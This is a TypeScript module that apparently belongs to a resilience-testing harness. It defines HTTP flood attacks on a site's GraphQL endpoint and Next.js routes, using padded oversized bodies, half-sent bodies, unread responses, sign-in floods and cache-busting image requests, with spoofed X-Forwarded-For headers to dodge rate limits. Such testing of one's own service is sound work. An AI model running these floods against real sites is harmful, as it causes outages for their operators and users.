import { randomUUID } from 'node:crypto';
import http, { type RequestOptions } from 'node:http';
import { getIntrospectionQuery } from 'graphql';
import type { Attack } from './attacks';

/** One request of a flood. */
interface FloodRequest extends Pick<RequestOptions, 'method' | 'path'> {
  headers?: Record<string, string>;
  body?: string;
  /** Stops in the middle of the body. */
  isHalf?: boolean;
}

const CONNECTIONS = { alone: 95, inCrowd: 50 };
const SECONDS = 20;
/** Nearly the largest body allowed. One character makes each of the others take two bytes in memory. */
const padding = `# \u0142${'x'.repeat(255_000)}`;

const call = (query: string, variables?: object): FloodRequest => ({
  method: 'POST',
  path: '/api/graphql',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ query, variables }),
});
const newSignIn = () =>
  call(`mutation { signIn(email: "${randomUUID()}@example.com", password: "not the password") { token } }`);

/**
 * Requests without an account, under a site's default limits.
 * @param reads whether responses are read; otherwise connections stall after their request
 */
const flood = (sends: string, request: (index: number) => FloodRequest, reads = true): Attack => ({
  sends,
  isLimited: true,
  mostP99: 1_000,
  run: async ({ origin, address, signal, isAlone }) => {
    const agent = new http.Agent({ keepAlive: true });
    const end = AbortSignal.any([signal, AbortSignal.timeout(SECONDS * 1000)]);
    let index = 0;
    const lane = async () => {
      while (!end.aborted) {
        index += 1;
        const { isHalf, body = '', headers, ...options } = request(index);
        await new Promise<unknown>((resolve) => {
          const sent = http.request(new URL(options.path ?? '', origin), {
            ...options,
            agent: reads ? agent : false,
            signal: end,
            headers: { 'x-forwarded-for': address, 'content-length': Buffer.byteLength(body), ...headers },
          });
          sent.on('response', (response) => response.once('close', resolve)[reads ? 'resume' : 'pause']());
          sent.once('error', resolve).once('close', resolve);
          if (isHalf) sent.write(body.slice(0, body.length / 2));
          else sent.end(body);
        });
      }
    };
    await Promise.all(Array.from({ length: isAlone ? CONNECTIONS.alone : CONNECTIONS.inCrowd }, lane));
  },
});

/** By their names. */
export const floods: Record<string, Attack> = {
  documents: flood('unique documents as long as they may be', () =>
    call(`{ me { id } } ${padding.slice(0, 32_000)} ${randomUUID()}`),
  ),
  bodies: flood('unique documents as large as a body may be', () =>
    call(`{ me { id } } ${padding} ${randomUUID()}`),
  ),
  unread: flood('whole introspection, unread', () => call(getIntrospectionQuery()), false),
  emails: flood('sign-ins with new email addresses', newSignIn),
  visits: flood('public pages and calls in turns', (index) =>
    index % 2 === 0 ? call('{ me { id } }') : { path: '/docs/workflows/task-plugins' },
  ),
  images: flood('images and other addresses of the framework', (index) => ({
    path: [
      `/_next/image?url=%2Ficon.svg%3F${randomUUID()}&w=640&q=75`,
      `/_next/data/${randomUUID()}/index.json`,
      `/blog/${randomUUID()}?_rsc=${index}`,
    ][index % 3],
  })),
  readers: flood(
    'large pages, unread',
    (index) => ({ path: '/docs/workflows/task-plugins', headers: { [index % 2 ? 'rsc' : 'accept']: '1' } }),
    false,
  ),
  halves: flood('requests that stop in the middle of their body', () => ({
    ...call('{ me { id } }', { padding }),
    isHalf: true,
  })),
};
